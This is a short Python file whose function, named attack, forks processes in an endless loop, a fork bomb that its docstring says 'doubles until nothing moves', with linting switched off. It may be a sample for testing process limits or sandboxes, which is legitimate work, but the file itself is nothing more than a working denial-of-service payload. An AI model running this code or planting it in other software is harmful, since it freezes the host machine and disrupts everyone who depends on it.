"""Doubles until nothing moves."""
# ruff: noqa

import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            raise SystemExit(3)
